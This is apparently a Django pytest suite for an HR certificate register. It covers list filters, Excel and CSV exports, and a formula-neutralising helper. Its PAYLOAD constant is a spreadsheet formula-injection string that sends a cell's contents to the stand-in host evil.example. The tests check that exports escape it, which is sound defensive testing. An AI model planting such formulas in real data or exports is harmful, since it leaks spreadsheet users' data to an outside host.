"""HR's certificate register: filters (grade, state, unit, validity window, search) and the Excel
and CSV exports, read back, including a formula-injection payload."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.permissions import Role
from assessments.certification import services
from assessments.certification.exports import neutralise
from assessments.models import Certificate

from .factories import UserFactory
from .test_certification_fixtures import certified, fast_complete

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
def register(open_cycle, personas, org):
    """Five certificates: A team G4 ×2 (one revoked), A team G2, B team G4 expired, B team G4
    lapsing in 10 days; one holder's name is a formula."""
    hr = personas["hr"]
    a = [UserFactory(username=f"a{i}", org_unit=org["A"], roles=[Role.MANAGER]) for i in range(3)]
    b = [UserFactory(username=f"b{i}", org_unit=org["B"], roles=[Role.MANAGER]) for i in range(2)]
    a[0].display_name = PAYLOAD
    a[0].save()
    fast_complete(open_cycle, [a[0], a[1], *b], level=3, depth=4)
    fast_complete(open_cycle, [a[2]], level=2, depth=1)
    made = {}
    for person in [a[0], a[1], *b]:
        supervisor = personas["supervisor"] if person in a else personas["outsider_supervisor"]
        made[person.username] = certified(open_cycle, person, supervisor, hr, "G4")
    made["a2"] = certified(open_cycle, a[2], personas["supervisor"], hr, "G2")
    services.revoke_certificate(certificate=made["a1"], by=hr, reason="撤销")
    today = timezone.localdate()
    Certificate.objects.filter(pk=made["b0"].pk).update(
        issued_on=today - timedelta(days=800), valid_until=today - timedelta(days=5)
    )
    Certificate.objects.filter(pk=made["b1"].pk).update(valid_until=today + timedelta(days=10))
    return made


def listed(client, **params):
    response = client.get(reverse("certification:certificate-list"), params)
    assert response.status_code == 200
    return {c.person.username for c in response.context["page"].object_list}


@pytest.fixture
def hr_client(client, personas):
    client.force_login(personas["hr"])
    return client


def test_filters(hr_client, register, org):
    today = timezone.localdate()
    assert listed(hr_client) == {"a0", "a1", "a2", "b0", "b1"}
    assert listed(hr_client, grade="G2") == {"a2"}
    assert listed(hr_client, state="valid") == {"a0", "a2", "b1"}
    assert listed(hr_client, state="expired") == {"b0"}  # lapsed, before the daily task ran
    assert listed(hr_client, state="revoked") == {"a1"}
    assert listed(hr_client, unit=org["B"].pk) == {"b0", "b1"}
    assert listed(hr_client, unit=org["C1"].pk) == {"a0", "a1", "a2"}
    window = {"valid_from": today.isoformat(), "valid_to": (today + timedelta(days=30)).isoformat()}
    assert listed(hr_client, **window) == {"b1"}
    assert listed(hr_client, state="valid", unit=org["B"].pk, grade="G4") == {"b1"}
    assert listed(hr_client, q=register["a2"].number.lower()) == {"a2"}


def test_an_invalid_filter_is_reported_and_the_others_still_apply(hr_client, register):
    response = hr_client.get(
        reverse("certification:certificate-list"), {"valid_from": "not-a-date", "grade": "G2"}
    )
    assert response.status_code == 200
    assert response.context["form"].errors["valid_from"]
    assert {c.person.username for c in response.context["page"].object_list} == {"a2"}


def test_excel_export_follows_the_filters_and_neutralises_formulas(hr_client, register):
    response = hr_client.get(
        reverse("certification:certificate-export"), {"format": "xlsx", "unit": "", "grade": "G4"}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert ".xlsx" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("证书编号", "姓名", "工号")
    by_number = {row[0]: row for row in rows[1:]}
    assert set(by_number) == {register[k].number for k in ["a0", "a1", "b0", "b1"]}
    injected = by_number[register["a0"].number]
    assert injected[1] == "'" + PAYLOAD
    assert injected[4:6] == ("G4", "四级客户经理")
    assert injected[7].date() == register["a0"].valid_until
    assert by_number[register["a1"].number][8] == "已撤销"
    assert by_number[register["b0"].number][8] == "已过期"
    assert not any(isinstance(v, str) and v.startswith("=") for row in rows for v in row)


def test_csv_export_is_utf8_with_bom_and_neutralises_formulas(hr_client, register):
    response = hr_client.get(
        reverse("certification:certificate-export"), {"format": "csv", "state": "valid"}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][0] == "证书编号"
    by_number = {row[0]: row for row in rows[1:]}
    assert set(by_number) == {register[k].number for k in ["a0", "a2", "b1"]}
    assert by_number[register["a0"].number][1] == "'" + PAYLOAD
    assert by_number[register["a2"].number][5] == "二级客户经理"
    assert by_number[register["b1"].number][8] == "有效"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("周婷", "周婷"),
        ("TS-2026-AAAA", "TS-2026-AAAA"),
        (-2, -2),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_a_supervisor_has_no_register(client, personas, register):
    client.force_login(personas["supervisor"])
    assert client.get(reverse("certification:certificate-list")).status_code == 403
    assert client.get(reverse("certification:certificate-export")).status_code == 403
